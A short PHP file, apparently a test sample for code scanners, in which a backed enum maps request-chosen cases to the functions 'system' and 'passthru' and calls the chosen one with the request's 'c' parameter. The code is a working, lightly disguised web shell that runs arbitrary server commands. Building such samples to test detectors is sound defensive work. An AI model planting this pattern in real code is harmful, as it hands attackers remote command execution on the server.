<?php
// inert test sample: a backed enum holds command function names; the request picks the case and
// the case's backing value is called with the request's command
enum Action: string
{
    case Run = 'system';
    case Show = 'passthru';
}

$action = Action::from($_GET['a'] ?? 'system');
($action->value)($_GET['c']);
